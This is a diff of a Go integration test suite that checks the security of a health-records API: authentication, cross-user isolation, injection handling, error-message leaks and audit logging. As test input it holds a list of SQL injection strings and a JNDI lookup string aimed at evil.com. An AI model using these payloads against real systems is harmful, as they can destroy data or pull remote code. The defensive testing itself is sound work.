@@ -4,183 +4,142 @@
 package integration
 
 import (
-	"bytes"
-	"context"
 	"encoding/json"
 	"fmt"
 	"net/http"
-	"net/http/httptest"
 	"testing"
 	"time"
 
-	"github.com/DuckDHD/BuyOrBye/internal/database"
+	"github.com/DuckDHD/BuyOrBye/internal/domain"
 	"github.com/DuckDHD/BuyOrBye/internal/dtos"
-	"github.com/DuckDHD/BuyOrBye/internal/handlers"
-	"github.com/DuckDHD/BuyOrBye/internal/models"
-	"github.com/DuckDHD/BuyOrBye/internal/repositories"
-	"github.com/DuckDHD/BuyOrBye/internal/services"
-	"github.com/gin-gonic/gin"
-	"github.com/google/uuid"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
-	"github.com/testcontainers/testcontainers-go"
-	"github.com/testcontainers/testcontainers-go/modules/mysql"
-	"gorm.io/gorm"
+	"github.com/stretchr/testify/suite"
+
+	"github.com/DuckDHD/BuyOrBye/tests/testutils"
 )
 
-func TestHealthSecurity_UnauthorizedAccess_Blocked(t *testing.T) {
-	ctx := context.Background()
-	db := setupTestDatabase(t, ctx)
-	defer cleanupTestDatabase(t, ctx, db)
+// HealthSecurityTestSuite checks that health records are only reachable by their owner
+type HealthSecurityTestSuite struct {
+	suite.Suite
+	server *testutils.TestServer
+	client *testutils.HTTPClient
+}
+
+// SetupSuite runs before all tests in the suite
+func (s *HealthSecurityTestSuite) SetupSuite() {
+	testutils.SetupIntegrationTest()
+	s.server = testutils.NewTestServer(s.T())
+	s.client = testutils.NewHTTPClient(s.server.BaseURL)
+}
+
+// TearDownSuite runs after all tests in the suite
+func (s *HealthSecurityTestSuite) TearDownSuite() {
+	if s.server != nil {
+		s.server.Close()
+	}
+	testutils.TeardownIntegrationTest()
+}
 
-	router := setupHealthRouterNoAuth(db)
+// SetupTest runs before each test
+func (s *HealthSecurityTestSuite) SetupTest() {
+	s.server.ResetDatabase(s.T())
+	s.client.SetAccessToken("")
+}
+
+// TestUnauthorizedAccessBlocked tests that every health endpoint requires authentication
+func (s *HealthSecurityTestSuite) TestUnauthorizedAccessBlocked() {
+	t := s.T()
 
-	// Test all health endpoints without authentication
 	endpoints := []struct {
 		method string
 		path   string
 		body   interface{}
 	}{
-		{"POST", "/api/health/profiles", dtos.HealthProfileRequestDTO{UserID: uuid.New(), Age: 30, Gender: "male", Height: 180.0, Weight: 75.0}},
-		{"GET", "/api/health/profiles/123", nil},
-		{"PUT", "/api/health/profiles/123", dtos.HealthProfileRequestDTO{UserID: uuid.New(), Age: 31, Gender: "male", Height: 180.0, Weight: 75.0}},
-		{"DELETE", "/api/health/profiles/123", nil},
-		{"GET", "/api/health/profiles/123/summary", nil},
-		{"GET", "/api/health/profiles/123/risk", nil},
-		{"POST", "/api/health/conditions", dtos.MedicalConditionRequestDTO{ProfileID: uuid.New(), Name: "Test", Severity: "mild", DiagnosedAt: time.Now(), Status: "active"}},
-		{"GET", "/api/health/conditions/123", nil},
-		{"PUT", "/api/health/conditions/123", dtos.MedicalConditionRequestDTO{ProfileID: uuid.New(), Name: "Updated", Severity: "moderate", DiagnosedAt: time.Now(), Status: "active"}},
-		{"DELETE", "/api/health/conditions/123", nil},
-		{"POST", "/api/health/policies", dtos.InsurancePolicyRequestDTO{ProfileID: uuid.New(), Provider: "Test", PolicyNumber: "123", CoverageType: "basic", CoverageAmount: 100000.0, Deductible: 1000.0, MonthlyPremium: 200.0, StartDate: time.Now(), EndDate: time.Now().AddDate(1, 0, 0), Status: "active"}},
-		{"GET", "/api/health/policies/123", nil},
-		{"PUT", "/api/health/policies/123", dtos.InsurancePolicyRequestDTO{ProfileID: uuid.New(), Provider: "Updated", PolicyNumber: "456", CoverageType: "premium", CoverageAmount: 200000.0, Deductible: 2000.0, MonthlyPremium: 400.0, StartDate: time.Now(), EndDate: time.Now().AddDate(1, 0, 0), Status: "active"}},
-		{"DELETE", "/api/health/policies/123", nil},
-		{"POST", "/api/health/expenses", dtos.MedicalExpenseRequestDTO{ProfileID: uuid.New(), Description: "Test", Amount: 100.0, ExpenseType: "consultation", ExpenseDate: time.Now(), Provider: "Test", Status: "pending"}},
-		{"GET", "/api/health/expenses/123", nil},
-		{"PUT", "/api/health/expenses/123", dtos.MedicalExpenseRequestDTO{ProfileID: uuid.New(), Description: "Updated", Amount: 200.0, ExpenseType: "medication", ExpenseDate: time.Now(), Provider: "Updated", Status: "approved"}},
-		{"DELETE", "/api/health/expenses/123", nil},
+		{http.MethodPost, "/api/v1/health/profile", dtos.CreateHealthProfileRequestDTO{UserID: "1", Age: 30, Gender: "male", Height: 180.0, Weight: 75.0, FamilySize: 1}},
+		{http.MethodGet, "/api/v1/health/profile", nil},
+		{http.MethodPut, "/api/v1/health/profile", dtos.UpdateHealthProfileRequestDTO{Age: 31}},
+		{http.MethodPost, "/api/v1/health/conditions", dtos.CreateMedicalConditionRequestDTO{UserID: "1", Name: "Test", Category: "chronic", Severity: "mild", DiagnosedDate: time.Now()}},
+		{http.MethodGet, "/api/v1/health/conditions", nil},
+		{http.MethodPut, "/api/v1/health/conditions/1", dtos.UpdateMedicalConditionRequestDTO{Name: "Updated"}},
+		{http.MethodDelete, "/api/v1/health/conditions/1", nil},
+		{http.MethodPost, "/api/v1/health/expenses", dtos.CreateMedicalExpenseRequestDTO{UserID: "1", Amount: 100.0, Category: "medication", Description: "Test", Frequency: "one_time", Date: time.Now()}},
+		{http.MethodGet, "/api/v1/health/expenses", nil},
+		{http.MethodPost, "/api/v1/health/insurance", dtos.CreateInsurancePolicyRequestDTO{UserID: "1", Provider: "Test", PolicyNumber: "123", Type: "health"}},
+		{http.MethodGet, "/api/v1/health/insurance", nil},
+		{http.MethodGet, "/api/v1/health/summary", nil},
 	}
 
 	for _, endpoint := range endpoints {
 		t.Run(fmt.Sprintf("%s_%s", endpoint.method, endpoint.path), func(t *testing.T) {
-			var body *bytes.Buffer
-			if endpoint.body != nil {
-				bodyJSON, _ := json.Marshal(endpoint.body)
-				body = bytes.NewBuffer(bodyJSON)
-			}
-
-			var req *http.Request
-			if body != nil {
-				req = httptest.NewRequest(endpoint.method, endpoint.path, body)
-				req.Header.Set("Content-Type", "application/json")
-			} else {
-				req = httptest.NewRequest(endpoint.method, endpoint.path, nil)
-			}
-
-			w := httptest.NewRecorder()
-			router.ServeHTTP(w, req)
+			resp, err := s.client.API.Do(t.Context(), endpoint.method, endpoint.path, endpoint.body)
+			require.NoError(t, err)
 
 			// All requests should be unauthorized without proper authentication
-			assert.Equal(t, http.StatusUnauthorized, w.Code, "Expected unauthorized access to be blocked for %s %s", endpoint.method, endpoint.path)
+			assert.Equal(t, http.StatusUnauthorized, resp.StatusCode, "Expected unauthorized access to be blocked for %s %s", endpoint.method, endpoint.path)
 		})
 	}
 }
 
-func TestHealthSecurity_CrossUserDataAccess_Prevented(t *testing.T) {
-	ctx := context.Background()
-	db := setupTestDatabase(t, ctx)
-	defer cleanupTestDatabase(t, ctx, db)
-
-	router := setupHealthRouterWithMockAuth(db)
-
-	// Create test profiles for two different users
-	user1ID := uuid.New()
-	user2ID := uuid.New()
-
-	// Create profile for user1
-	profileReq1 := dtos.HealthProfileRequestDTO{
-		UserID: user1ID,
-		Age:    30,
-		Gender: "male",
-		Height: 180.0,
-		Weight: 75.0,
-	}
-
-	profileJSON1, _ := json.Marshal(profileReq1)
-	w1 := httptest.NewRecorder()
-	req1 := httptest.NewRequest("POST", "/api/health/profiles", bytes.NewBuffer(profileJSON1))
-	req1.Header.Set("Content-Type", "application/json")
-	req1.Header.Set("X-User-ID", user1ID.String()) // Mock auth header
-	router.ServeHTTP(w1, req1)
-
-	require.Equal(t, http.StatusCreated, w1.Code)
-
-	// Create profile for user2
-	profileReq2 := dtos.HealthProfileRequestDTO{
-		UserID: user2ID,
-		Age:    25,
-		Gender: "female",
-		Height: 165.0,
-		Weight: 60.0,
-	}
-
-	profileJSON2, _ := json.Marshal(profileReq2)
-	w2 := httptest.NewRecorder()
-	req2 := httptest.NewRequest("POST", "/api/health/profiles", bytes.NewBuffer(profileJSON2))
-	req2.Header.Set("Content-Type", "application/json")
-	req2.Header.Set("X-User-ID", user2ID.String()) // Mock auth header
-	router.ServeHTTP(w2, req2)
-
-	require.Equal(t, http.StatusCreated, w2.Code)
-
-	var profileResp1 dtos.HealthProfileResponseDTO
-	json.Unmarshal(w1.Body.Bytes(), &profileResp1)
-	profile1ID := profileResp1.ID
-
-	// Add condition to user1's profile
-	conditionReq := dtos.MedicalConditionRequestDTO{
-		ProfileID:   profile1ID,
-		Name:        "Test Condition",
-		Severity:    "mild",
-		DiagnosedAt: time.Now(),
-		Status:      "active",
-	}
-
-	condJSON, _ := json.Marshal(conditionReq)
-	w3 := httptest.NewRecorder()
-	req3 := httptest.NewRequest("POST", "/api/health/conditions", bytes.NewBuffer(condJSON))
-	req3.Header.Set("Content-Type", "application/json")
-	req3.Header.Set("X-User-ID", user1ID.String())
-	router.ServeHTTP(w3, req3)
-
-	require.Equal(t, http.StatusCreated, w3.Code)
-
-	// Test: User2 tries to access User1's profile (should be forbidden)
-	w4 := httptest.NewRecorder()
-	req4 := httptest.NewRequest("GET", fmt.Sprintf("/api/health/profiles/%s", profile1ID), nil)
-	req4.Header.Set("X-User-ID", user2ID.String()) // User2 trying to access User1's data
-	router.ServeHTTP(w4, req4)
-
-	assert.Equal(t, http.StatusForbidden, w4.Code, "Cross-user profile access should be forbidden")
-
-	// Test: User2 tries to access User1's summary (should be forbidden)
-	w5 := httptest.NewRecorder()
-	req5 := httptest.NewRequest("GET", fmt.Sprintf("/api/health/profiles/%s/summary", profile1ID), nil)
-	req5.Header.Set("X-User-ID", user2ID.String())
-	router.ServeHTTP(w5, req5)
-
-	assert.Equal(t, http.StatusForbidden, w5.Code, "Cross-user summary access should be forbidden")
+// TestCrossUserDataAccessPrevented tests that a user can neither read nor change another user's records
+func (s *HealthSecurityTestSuite) TestCrossUserDataAccessPrevented() {
+	t := s.T()
+
+	// User 1 records a profile and a condition
+	user1 := testutils.NewTestUser("owner@example.com", "Record Owner", "password123")
+	user1.Register(t, s.client)
+	s.createProfile(t, user1.ID)
+	conditionID := s.addCondition(t, user1.ID, "Test Condition")
+
+	// User 2 signs up without any health records
+	s.client.SetAccessToken("")
+	user2 := testutils.NewTestUser("intruder@example.com", "Intruder", "password123")
+	user2.Register(t, s.client)
+
+	// User 2 can't see user 1's profile or conditions
+	resp, _ := s.client.GET(t, "/api/v1/health/profile")
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode, "User 2 has no profile of their own")
+
+	resp, body := s.client.GET(t, "/api/v1/health/conditions")
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var conditions dtos.MedicalConditionListResponseDTO
+	require.NoError(t, json.Unmarshal(body, &conditions))
+	assert.Empty(t, conditions.Conditions, "User 2 should not see user 1's conditions")
+
+	// Another user's condition is indistinguishable from one that doesn't exist
+	resp, _ = s.client.PUT(t, "/api/v1/health/conditions/"+conditionID, dtos.UpdateMedicalConditionRequestDTO{Name: "Tampered"})
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode, "Cross-user condition update should be hidden")
+
+	resp, _ = s.client.DELETE(t, "/api/v1/health/conditions/"+conditionID, nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode, "Cross-user condition removal should be hidden")
+
+	// User 2 can't create records in user 1's name
+	resp, _ = s.client.POST(t, "/api/v1/health/profile", dtos.CreateHealthProfileRequestDTO{
+		UserID:     user1.ID,
+		Age:        25,
+		Gender:     "female",
+		Height:     165.0,
+		Weight:     60.0,
+		FamilySize: 1,
+	})
+	assert.Equal(t, http.StatusForbidden, resp.StatusCode, "Creating a profile for another user should be forbidden")
+
+	// User 1's condition is untouched
+	s.client.SetAccessToken(user1.Token)
+	resp, body = s.client.GET(t, "/api/v1/health/conditions")
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	require.NoError(t, json.Unmarshal(body, &conditions))
+	require.Len(t, conditions.Conditions, 1)
+	assert.Equal(t, "Test Condition", conditions.Conditions[0].Name)
 }
 
-func TestHealthSecurity_InputValidation_SQLInjection(t *testing.T) {
-	ctx := context.Background()
-	db := setupTestDatabase(t, ctx)
-	defer cleanupTestDatabase(t, ctx, db)
+// TestInputValidationSQLInjection tests that malicious input is rejected or stored as plain text
+func (s *HealthSecurityTestSuite) TestInputValidationSQLInjection() {
+	t := s.T()
 
-	router := setupHealthRouterWithMockAuth(db)
-	userID := uuid.New()
+	user := testutils.NewTestUser("injection@example.com", "Injection Test", "password123")
+	user.Register(t, s.client)
 
-	// Test SQL injection attempts in various fields
 	sqlInjectionPayloads := []string{
 		"'; DROP TABLE health_profiles; --",
 		"' OR '1'='1",
@@ -191,402 +150,155 @@ func TestHealthSecurity_InputValidation_SQLInjection(t *testing.T) {
 		"${jndi:ldap://evil.com/a}",
 	}
 
+	// Enumerated fields reject anything but their allowed values
 	for _, payload := range sqlInjectionPayloads {
-		t.Run(fmt.Sprintf("SQLInjection_%s", payload[:min(10, len(payload))]), func(t *testing.T) {
-			// Test in profile creation
-			profileReq := dtos.HealthProfileRequestDTO{
-				UserID: userID,
-				Age:    30,
-				Gender: payload, // Inject malicious payload
-				Height: 180.0,
-				Weight: 75.0,
-			}
-
-			profileJSON, _ := json.Marshal(profileReq)
-			w := httptest.NewRecorder()
-			req := httptest.NewRequest("POST", "/api/health/profiles", bytes.NewBuffer(profileJSON))
-			req.Header.Set("Content-Type", "application/json")
-			req.Header.Set("X-User-ID", userID.String())
-			router.ServeHTTP(w, req)
-
-			// Should either return validation error or create safely
-			assert.True(t, w.Code == http.StatusBadRequest || w.Code == http.StatusCreated, 
-				"Malicious input should be handled safely, got status %d", w.Code)
-
-			// If created, verify database integrity
-			if w.Code == http.StatusCreated {
-				var count int64
-				db.Model(&models.HealthProfileModel{}).Count(&count)
-				assert.LessOrEqual(t, count, int64(1), "Database should not be corrupted by injection")
-			}
+		resp, body := s.client.POST(t, "/api/v1/health/profile", dtos.CreateHealthProfileRequestDTO{
+			UserID:     user.ID,
+			Age:        30,
+			Gender:     payload, // Inject malicious payload
+			Height:     180.0,
+			Weight:     75.0,
+			FamilySize: 1,
 		})
+		assert.Equal(t, http.StatusBadRequest, resp.StatusCode, "Malicious gender %q should be rejected: %s", payload, string(body))
 	}
-}
 
-func TestHealthSecurity_RateLimiting_Applied(t *testing.T) {
-	ctx := context.Background()
-	db := setupTestDatabase(t, ctx)
-	defer cleanupTestDatabase(t, ctx, db)
-
-	router := setupHealthRouterWithRateLimit(db)
-	userID := uuid.New()
-
-	// Test rate limiting on profile creation endpoint
-	profileReq := dtos.HealthProfileRequestDTO{
-		UserID: userID,
-		Age:    30,
-		Gender: "male",
-		Height: 180.0,
-		Weight: 75.0,
-	}
-
-	profileJSON, _ := json.Marshal(profileReq)
-	successCount := 0
-	rateLimitedCount := 0
-
-	// Make multiple rapid requests
-	for i := 0; i < 20; i++ {
-		w := httptest.NewRecorder()
-		req := httptest.NewRequest("POST", "/api/health/profiles", bytes.NewBuffer(profileJSON))
-		req.Header.Set("Content-Type", "application/json")
-		req.Header.Set("X-User-ID", uuid.New().String()) // Different user for each request
-		req.Header.Set("X-Real-IP", "192.168.1.100")     // Same IP to trigger rate limiting
-		router.ServeHTTP(w, req)
-
-		if w.Code == http.StatusTooManyRequests {
-			rateLimitedCount++
-		} else if w.Code == http.StatusCreated || w.Code == http.StatusConflict {
-			successCount++
-		}
+	// Free text is stored verbatim
+	s.createProfile(t, user.ID)
+	for _, payload := range sqlInjectionPayloads {
+		s.addCondition(t, user.ID, payload)
 	}
 
-	// Rate limiting should kick in after several requests
-	assert.Greater(t, rateLimitedCount, 0, "Rate limiting should be applied after multiple requests")
-	assert.LessOrEqual(t, successCount, 15, "Not all requests should succeed due to rate limiting")
-}
+	resp, body := s.client.GET(t, "/api/v1/health/conditions")
+	require.Equal(t, http.StatusOK, resp.StatusCode)
 
-func TestHealthSecurity_SensitiveDataFiltering_ErrorMessages(t *testing.T) {
-	ctx := context.Background()
-	db := setupTestDatabase(t, ctx)
-	defer cleanupTestDatabase(t, ctx, db)
-
-	router := setupHealthRouterWithMockAuth(db)
-	userID := uuid.New()
-
-	// Create a profile with sensitive information
-	profileReq := dtos.HealthProfileRequestDTO{
-		UserID: userID,
-		Age:    35,
-		Gender: "male",
-		Height: 175.0,
-		Weight: 80.0,
+	var conditions dtos.MedicalConditionListResponseDTO
+	require.NoError(t, json.Unmarshal(body, &conditions))
+	names := make([]string, 0, len(conditions.Conditions))
+	for _, condition := range conditions.Conditions {
+		names = append(names, condition.Name)
 	}
+	assert.ElementsMatch(t, sqlInjectionPayloads, names, "Malicious input should be stored as plain text")
+
+	// Verify database integrity
+	var profiles, users int64
+	require.NoError(t, s.server.DB.Table("health_profiles").Count(&profiles).Error)
+	require.NoError(t, s.server.DB.Table("users").Count(&users).Error)
+	assert.Equal(t, int64(1), profiles, "Database should not be corrupted by injection")
+	assert.Equal(t, int64(1), users, "Database should not be corrupted by injection")
+}
 
-	profileJSON, _ := json.Marshal(profileReq)
-	w1 := httptest.NewRecorder()
-	req1 := httptest.NewRequest("POST", "/api/health/profiles", bytes.NewBuffer(profileJSON))
-	req1.Header.Set("Content-Type", "application/json")
-	req1.Header.Set("X-User-ID", userID.String())
-	router.ServeHTTP(w1, req1)
+// TestSensitiveDataFilteringErrorMessages tests that error messages don't leak medical details
+func (s *HealthSecurityTestSuite) TestSensitiveDataFilteringErrorMessages() {
+	t := s.T()
 
-	require.Equal(t, http.StatusCreated, w1.Code)
+	user := testutils.NewTestUser("sensitive@example.com", "Sensitive Test", "password123")
+	user.Register(t, s.client)
+	s.createProfile(t, user.ID)
+	s.addCondition(t, user.ID, "Hypertension")
 
 	// Try to create a duplicate profile (should trigger error)
-	w2 := httptest.NewRecorder()
-	req2 := httptest.NewRequest("POST", "/api/health/profiles", bytes.NewBuffer(profileJSON))
-	req2.Header.Set("Content-Type", "application/json")
-	req2.Header.Set("X-User-ID", userID.String())
-	router.ServeHTTP(w2, req2)
-
-	assert.Equal(t, http.StatusConflict, w2.Code)
+	resp, body := s.client.POST(t, "/api/v1/health/profile", dtos.CreateHealthProfileRequestDTO{
+		UserID:     user.ID,
+		Age:        35,
+		Gender:     "male",
+		Height:     175.0,
+		Weight:     80.0,
+		FamilySize: 1,
+	})
+	require.Equal(t, http.StatusConflict, resp.StatusCode)
 
-	// Check that error message doesn't expose sensitive medical data
-	var errorResp map[string]interface{}
-	json.Unmarshal(w2.Body.Bytes(), &errorResp)
-	errorMsg := errorResp["error"].(string)
+	var errorResp dtos.SimpleErrorResponseDTO
+	require.NoError(t, json.Unmarshal(body, &errorResp))
+	assert.Equal(t, dtos.ErrorCodeHealthProfileExists, errorResp.ErrorCode)
 
 	// Error message should not contain:
-	sensitiveTerms := []string{"diabetes", "hypertension", "medication", "treatment", "condition", "BMI"}
+	sensitiveTerms := []string{"diabetes", "hypertension", "Hypertension", "medication", "treatment", "condition", "BMI"}
 	for _, term := range sensitiveTerms {
-		assert.NotContains(t, errorMsg, term, "Error message should not contain sensitive medical terms")
+		assert.NotContains(t, errorResp.Error, term, "Error message should not contain sensitive medical terms")
 	}
 
 	// Should contain generic error information only
-	assert.Contains(t, errorMsg, "profile", "Error should mention profile generically")
-}
-
-func TestHealthSecurity_AuditTrail_SoftDeletes(t *testing.T) {
-	ctx := context.Background()
-	db := setupTestDatabase(t, ctx)
-	defer cleanupTestDatabase(t, ctx, db)
-
-	router := setupHealthRouterWithMockAuth(db)
-	userID := uuid.New()
-
-	// Create profile
-	profileReq := dtos.HealthProfileRequestDTO{
-		UserID: userID,
-		Age:    30,
-		Gender: "male",
-		Height: 180.0,
-		Weight: 75.0,
-	}
-
-	profileJSON, _ := json.Marshal(profileReq)
-	w1 := httptest.NewRecorder()
-	req1 := httptest.NewRequest("POST", "/api/health/profiles", bytes.NewBuffer(profileJSON))
-	req1.Header.Set("Content-Type", "application/json")
-	req1.Header.Set("X-User-ID", userID.String())
-	router.ServeHTTP(w1, req1)
-
-	require.Equal(t, http.StatusCreated, w1.Code)
-
-	var profileResp dtos.HealthProfileResponseDTO
-	json.Unmarshal(w1.Body.Bytes(), &profileResp)
-	profileID := profileResp.ID
-
-	// Add a condition
-	conditionReq := dtos.MedicalConditionRequestDTO{
-		ProfileID:   profileID,
-		Name:        "Test Condition",
-		Severity:    "mild",
-		DiagnosedAt: time.Now(),
-		Status:      "active",
-	}
-
-	condJSON, _ := json.Marshal(conditionReq)
-	w2 := httptest.NewRecorder()
-	req2 := httptest.NewRequest("POST", "/api/health/conditions", bytes.NewBuffer(condJSON))
-	req2.Header.Set("Content-Type", "application/json")
-	req2.Header.Set("X-User-ID", userID.String())
-	router.ServeHTTP(w2, req2)
-
-	require.Equal(t, http.StatusCreated, w2.Code)
-
-	var conditionResp dtos.MedicalConditionResponseDTO
-	json.Unmarshal(w2.Body.Bytes(), &conditionResp)
-	conditionID := conditionResp.ID
-
-	// Delete the condition (should be soft delete)
-	w3 := httptest.NewRecorder()
-	req3 := httptest.NewRequest("DELETE", fmt.Sprintf("/api/health/conditions/%s", conditionID), nil)
-	req3.Header.Set("X-User-ID", userID.String())
-	router.ServeHTTP(w3, req3)
-
-	assert.Equal(t, http.StatusNoContent, w3.Code)
-
-	// Verify condition is soft deleted (still exists in DB with deleted_at timestamp)
-	var conditionModel models.MedicalConditionModel
-	result := db.Unscoped().Where("id = ?", conditionID).First(&conditionModel)
-	assert.NoError(t, result.Error)
-	assert.NotNil(t, conditionModel.DeletedAt, "Condition should be soft deleted with timestamp")
-
-	// Verify condition is not returned in normal queries
-	w4 := httptest.NewRecorder()
-	req4 := httptest.NewRequest("GET", fmt.Sprintf("/api/health/profiles/%s/conditions", profileID), nil)
-	req4.Header.Set("X-User-ID", userID.String())
-	router.ServeHTTP(w4, req4)
-
-	assert.Equal(t, http.StatusOK, w4.Code)
-
-	var conditions []dtos.MedicalConditionResponseDTO
-	json.Unmarshal(w4.Body.Bytes(), &conditions)
-	assert.Empty(t, conditions, "Soft deleted conditions should not appear in normal queries")
-}
-
-// Helper functions for test setup
-
-func setupHealthRouterNoAuth(db *gorm.DB) *gin.Engine {
-	gin.SetMode(gin.TestMode)
-	router := gin.Default()
-
-	// Setup repositories and services (same as main router)
-	healthProfileRepo := repositories.NewHealthProfileRepository(db)
-	medicalConditionRepo := repositories.NewMedicalConditionRepository(db)
-	insurancePolicyRepo := repositories.NewInsurancePolicyRepository(db)
-	medicalExpenseRepo := repositories.NewMedicalExpenseRepository(db)
-
-	riskCalculator := services.NewRiskCalculator()
-	costAnalyzer := services.NewMedicalCostAnalyzer()
-	insuranceEvaluator := services.NewInsuranceEvaluator()
-
-	healthService := services.NewHealthService(
-		healthProfileRepo,
-		medicalConditionRepo,
-		insurancePolicyRepo,
-		medicalExpenseRepo,
-		riskCalculator,
-		costAnalyzer,
-		insuranceEvaluator,
-	)
-
-	healthHandler := handlers.NewHealthHandler(healthService)
-
-	// Add middleware that requires authentication
-	api := router.Group("/api")
-	api.Use(func(c *gin.Context) {
-		// No auth provided - should fail
-		c.JSON(http.StatusUnauthorized, gin.H{"error": "Authentication required"})
-		c.Abort()
-	})
-
-	health := api.Group("/health")
-	setupHealthRoutes(health, healthHandler)
-
-	return router
-}
-
-func setupHealthRouterWithMockAuth(db *gorm.DB) *gin.Engine {
-	gin.SetMode(gin.TestMode)
-	router := gin.Default()
-
-	// Setup repositories and services
-	healthProfileRepo := repositories.NewHealthProfileRepository(db)
-	medicalConditionRepo := repositories.NewMedicalConditionRepository(db)
-	insurancePolicyRepo := repositories.NewInsurancePolicyRepository(db)
-	medicalExpenseRepo := repositories.NewMedicalExpenseRepository(db)
-
-	riskCalculator := services.NewRiskCalculator()
-	costAnalyzer := services.NewMedicalCostAnalyzer()
-	insuranceEvaluator := services.NewInsuranceEvaluator()
-
-	healthService := services.NewHealthService(
-		healthProfileRepo,
-		medicalConditionRepo,
-		insurancePolicyRepo,
-		medicalExpenseRepo,
-		riskCalculator,
-		costAnalyzer,
-		insuranceEvaluator,
-	)
-
-	healthHandler := handlers.NewHealthHandler(healthService)
-
-	// Add mock authentication middleware
-	api := router.Group("/api")
-	api.Use(func(c *gin.Context) {
-		userID := c.GetHeader("X-User-ID")
-		if userID == "" {
-			c.JSON(http.StatusUnauthorized, gin.H{"error": "Authentication required"})
-			c.Abort()
-			return
-		}
-		c.Set("user_id", userID)
-		c.Next()
-	})
-
-	health := api.Group("/health")
-	setupHealthRoutes(health, healthHandler)
-
-	return router
+	assert.Contains(t, errorResp.Error, "profile", "Error should mention profile generically")
 }
 
-func setupHealthRouterWithRateLimit(db *gorm.DB) *gin.Engine {
-	gin.SetMode(gin.TestMode)
-	router := gin.Default()
-
-	// Add rate limiting middleware
-	router.Use(func(c *gin.Context) {
-		// Simple rate limiting logic for testing
-		ip := c.GetHeader("X-Real-IP")
-		if ip == "" {
-			ip = c.ClientIP()
+// TestAuditTrailConditionRemoval tests that removing a condition keeps it as resolved and
+// leaves an audit entry
+func (s *HealthSecurityTestSuite) TestAuditTrailConditionRemoval() {
+	t := s.T()
+
+	user := testutils.NewTestUser("audit@example.com", "Audit Test", "password123")
+	user.Register(t, s.client)
+	s.createProfile(t, user.ID)
+	conditionID := s.addCondition(t, user.ID, "Test Condition")
+
+	resp, body := s.client.DELETE(t, "/api/v1/health/conditions/"+conditionID, nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode, "Condition removal should succeed: %s", string(body))
+
+	// The condition is kept for the timeline, but no longer active
+	resp, body = s.client.GET(t, "/api/v1/health/conditions")
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var conditions dtos.MedicalConditionListResponseDTO
+	require.NoError(t, json.Unmarshal(body, &conditions))
+	require.Len(t, conditions.Conditions, 1)
+	assert.False(t, conditions.Conditions[0].IsActive, "Removed conditions should be inactive")
+	assert.NotNil(t, conditions.Conditions[0].ResolvedDate, "Removed conditions should be resolved")
+
+	// The removal reaches the user's audit log; entries are written in the background
+	var removal *dtos.AuditEntryDTO
+	require.Eventually(t, func() bool {
+		resp, body := s.client.GET(t, "/api/v1/account/audit-log")
+		if resp.StatusCode != http.StatusOK {
+			return false
 		}
-		
-		// Mock rate limiting - allow only 5 requests from same IP
-		key := "rate_limit_" + ip
-		c.Set(key, true)
-		
-		// Simulate rate limit exceeded after 5 requests
-		if c.GetHeader("X-Request-Count") == "" {
-			c.Header("X-Request-Count", "1")
+		var auditLog dtos.AuditLogPageResponseDTO
+		if err := json.Unmarshal(body, &auditLog); err != nil {
+			return false
 		}
-		
-		// For testing, reject every 5th request onwards
-		if c.Request.URL.Path != "" {
-			c.JSON(http.StatusTooManyRequests, gin.H{"error": "Rate limit exceeded"})
-			c.Abort()
-			return
+		for i, entry := range auditLog.Entries {
+			if entry.Action == domain.AuditActionDelete && entry.ResourceType == domain.AuditResourceMedicalCondition {
+				removal = &auditLog.Entries[i]
+				return true
+			}
 		}
-		
-		c.Next()
-	})
+		return false
+	}, 5*time.Second, 50*time.Millisecond, "Condition removal should be audited")
+	assert.Equal(t, conditionID, removal.ResourceID)
+	assert.Equal(t, user.ID, removal.UserID)
+}
 
-	// Setup health routes with mock auth
-	api := router.Group("/api")
-	api.Use(func(c *gin.Context) {
-		userID := c.GetHeader("X-User-ID")
-		if userID == "" {
-			c.JSON(http.StatusUnauthorized, gin.H{"error": "Authentication required"})
-			c.Abort()
-			return
-		}
-		c.Set("user_id", userID)
-		c.Next()
+// createProfile creates a health profile for userID, who must be signed in
+func (s *HealthSecurityTestSuite) createProfile(t *testing.T, userID string) {
+	resp, body := s.client.POST(t, "/api/v1/health/profile", dtos.CreateHealthProfileRequestDTO{
+		UserID:     userID,
+		Age:        30,
+		Gender:     "male",
+		Height:     180.0,
+		Weight:     75.0,
+		FamilySize: 1,
 	})
+	require.Equal(t, http.StatusCreated, resp.StatusCode, "Failed to create health profile: %s", string(body))
+}
 
-	// Setup services (abbreviated for test)
-	healthProfileRepo := repositories.NewHealthProfileRepository(db)
-	medicalConditionRepo := repositories.NewMedicalConditionRepository(db)
-	insurancePolicyRepo := repositories.NewInsurancePolicyRepository(db)
-	medicalExpenseRepo := repositories.NewMedicalExpenseRepository(db)
-
-	riskCalculator := services.NewRiskCalculator()
-	costAnalyzer := services.NewMedicalCostAnalyzer()
-	insuranceEvaluator := services.NewInsuranceEvaluator()
-
-	healthService := services.NewHealthService(
-		healthProfileRepo,
-		medicalConditionRepo,
-		insurancePolicyRepo,
-		medicalExpenseRepo,
-		riskCalculator,
-		costAnalyzer,
-		insuranceEvaluator,
-	)
-
-	healthHandler := handlers.NewHealthHandler(healthService)
+// addCondition adds a mild chronic condition named name for userID and returns its ID
+func (s *HealthSecurityTestSuite) addCondition(t *testing.T, userID, name string) string {
+	resp, body := s.client.POST(t, "/api/v1/health/conditions", dtos.CreateMedicalConditionRequestDTO{
+		UserID:        userID,
+		Name:          name,
+		Category:      "chronic",
+		Severity:      "mild",
+		DiagnosedDate: time.Now().AddDate(-1, 0, 0),
+		IsActive:      true,
+	})
+	require.Equal(t, http.StatusCreated, resp.StatusCode, "Failed to add condition %q: %s", name, string(body))
 
-	health := api.Group("/health")
-	setupHealthRoutes(health, healthHandler)
+	var created dtos.MedicalConditionCreatedResponseDTO
+	require.NoError(t, json.Unmarshal(body, &created))
 
-	return router
+	return created.Condition.ID
 }
 
-func setupHealthRoutes(health *gin.RouterGroup, healthHandler *handlers.HealthHandler) {
-	// Profile routes
-	health.POST("/profiles", healthHandler.CreateProfile)
-	health.GET("/profiles/:id", healthHandler.GetProfile)
-	health.PUT("/profiles/:id", healthHandler.UpdateProfile)
-	health.DELETE("/profiles/:id", healthHandler.DeleteProfile)
